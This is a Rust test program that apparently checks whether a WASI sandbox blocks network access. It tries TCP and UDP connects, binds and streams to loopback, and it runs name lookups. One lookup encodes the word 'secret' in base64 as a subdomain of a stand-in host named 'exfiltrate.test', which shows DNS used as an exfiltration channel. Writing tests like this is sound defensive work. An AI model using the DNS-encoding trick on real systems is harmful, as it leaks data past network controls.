//! Opens sockets and looks up names, past HTTP.

use std::process::ExitCode;

use hostile::Attack;
use hostile::wasi::sockets::instance_network::instance_network;
use hostile::wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
use hostile::wasi::sockets::{ip_name_lookup, tcp_create_socket, udp_create_socket};

const LOOPBACK: IpSocketAddress = IpSocketAddress::Ipv4(Ipv4SocketAddress { port: 9, address: (127, 0, 0, 1) });

fn main() -> ExitCode {
    let mut attack = Attack::start();
    let network = instance_network();
    for family in [IpAddressFamily::Ipv4, IpAddressFamily::Ipv6] {
        match tcp_create_socket::create_tcp_socket(family) {
            Ok(socket) => {
                // A socket alone reaches no one. Using it would.
                let connected = socket.start_connect(&network, LOOPBACK).and_then(|()| {
                    socket.subscribe().block();
                    socket.finish_connect()
                });
                attack.attempt(&format!("connect by TCP, {family:?}"), connected);
                let listening = socket.start_bind(&network, LOOPBACK).and_then(|()| socket.finish_bind());
                attack.attempt(&format!("bind by TCP, {family:?}"), listening);
            }
            Err(error) => attack.held(&format!("create a TCP socket, {family:?}: {error:?}")),
        }
        match udp_create_socket::create_udp_socket(family) {
            Ok(socket) => {
                let bound = socket.start_bind(&network, LOOPBACK).and_then(|()| socket.finish_bind());
                attack.attempt(&format!("bind by UDP, {family:?}"), bound);
                attack.attempt(&format!("stream by UDP, {family:?}"), socket.stream(Some(LOOPBACK)));
            }
            Err(error) => attack.held(&format!("create a UDP socket, {family:?}: {error:?}")),
        }
    }
    // A look-up alone carries data out, to whoever runs the domain's name server.
    for name in ["localhost", "127.0.0.1", "c2VjcmV0.exfiltrate.test"] {
        let found = ip_name_lookup::resolve_addresses(&network, name).and_then(|addresses| {
            addresses.subscribe().block();
            addresses.resolve_next_address()
        });
        attack.attempt(&format!("look up {name:?}"), found);
    }
    attack.finish()
}
